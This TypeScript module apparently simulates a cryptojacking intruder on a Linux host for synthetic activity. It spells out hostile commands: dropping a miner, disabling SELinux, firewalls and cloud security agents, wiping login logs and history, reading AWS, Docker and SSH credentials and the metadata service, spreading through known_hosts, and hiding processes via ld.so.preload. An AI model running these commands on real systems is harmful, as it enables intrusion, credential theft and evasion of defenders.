import type { Act } from '../../schedule.ts'
import type { Foothold } from '../gang.ts'

/** Downloads the miner and makes it executable. False: nothing to download with, or no place to put it. */
export function* dropMiner(foothold: Foothold, urlPath: string): Act<boolean> {
  const { path } = foothold.gang.traits.miner
  if (!(yield* foothold.fetch(urlPath, path, { what: 'miner' }))) return false
  yield* foothold.pause()
  yield* foothold.changeMode(path, 0o755)
  return true
}

/** What it is worth: cores, memory, who else is here. */
export function* lookAround(foothold: Foothold): Act {
  const { hands, random } = foothold
  const looks: readonly (readonly [string, ...string[]])[] = [
    ['nproc'],
    ['uname', '-a'],
    ['free', '-m'],
    ['w'],
    ['lscpu'],
    ['cat', '/proc/cpuinfo'],
    ['crontab', '-l'],
    ['df', '-h'],
  ]
  for (const look of looks) {
    if (!random.chance(0.5)) continue
    yield* hands.run(look, { replyBytes: random.integer(12, 900) })
    yield* foothold.pause('script')
  }
}

/** Tunes the kernel for RandomX. */
export function* tuneForMining(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  yield* foothold.hands.run(['sysctl', '-w', 'vm.nr_hugepages=1280'])
  if (foothold.random.chance(0.6)) yield* foothold.hands.run(['modprobe', 'msr', 'allow_writes=on'])
}

/** Off with what watches the host. */
export function* removeGuards(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  foothold.did('guard-removal')
  const { hands, random } = foothold
  const acts: readonly (readonly [string, ...string[]])[] = [
    ['setenforce', '0'],
    ['service', 'apparmor', 'stop'],
    ['ufw', 'disable'],
    ['systemctl', 'stop', 'aliyun.service'],
    ['pkill', 'aliyun-service'],
    ['rm', '-rf', '/usr/local/aegis'],
    ['rm', '-rf', '/usr/local/qcloud'],
    ['sysctl', '-w', 'kernel.nmi_watchdog=0'],
  ]
  for (const act of acts) if (random.chance(0.55)) yield* hands.run(act)
}

/** Empties logs and keeps no history. */
export function* coverTracks(foothold: Foothold): Act {
  const { hands, random } = foothold
  if (foothold.isRoot) {
    for (const path of ['/var/log/wtmp', '/var/log/lastlog', '/var/log/btmp', '/var/spool/mail/root']) {
      if (!random.chance(0.5)) continue
      const shell = yield* hands.builtin(`echo > ${path}`)
      foothold.write(path, { what: 'log-wipe', isNew: false }, shell)
    }
  }
  yield* hands.builtin('history -c')
}

/** Every host that known_hosts tells of, with the keys found here. */
export function* spread(foothold: Foothold): Act {
  for (const address of foothold.knownHosts()) {
    if (!foothold.random.chance(foothold.gang.traits.spreads)) continue
    yield* foothold.spreadTo(address)
    yield* foothold.pause('script')
  }
}

/** Whatever gives access elsewhere: files with keys, environments, the metadata service. */
export function* readCredentials(foothold: Foothold): Act {
  const { hands, random, machine } = foothold
  const looks: readonly (readonly [string, ...string[]])[] = [
    ['cat', '/root/.aws/credentials'],
    ['cat', '/root/.docker/config.json'],
    ['cat', '/root/.ssh/id_rsa'],
    ['cat', '/root/.ssh/known_hosts'],
    ['cat', '/root/.bash_history'],
    ['grep', '-aE', 'AWS_|DOCKER_', '/proc/1/environ'],
    ['find', '/home', '/root', '-name', 'credentials'],
  ]
  for (const look of looks)
    if (random.chance(0.6)) yield* hands.run(look, { replyBytes: random.integer(0, 800) })
  if (!random.chance(0.6)) return
  const url = `http://${METADATA}/latest/meta-data/iam/security-credentials/`
  const curl = yield* hands.run(['curl', '-s', url], { replyBytes: 300 })
  machine.calls.connected(curl, METADATA, 80, true)
}

/** The metadata service of a cloud's machine. */
const METADATA = '169.254.169.254'

/** A library in front of all others, so that `ps` does not show the miner. */
export function* hideProcess(foothold: Foothold, library: string): Act {
  if (!foothold.isRoot) return
  if (!(yield* foothold.fetch('/x.so', library, { what: 'library' }))) return
  const shell = yield* foothold.hands.builtin(`echo ${library} > /etc/ld.so.preload`)
  foothold.write('/etc/ld.so.preload', { what: 'ld-preload', isNew: true }, shell)
}
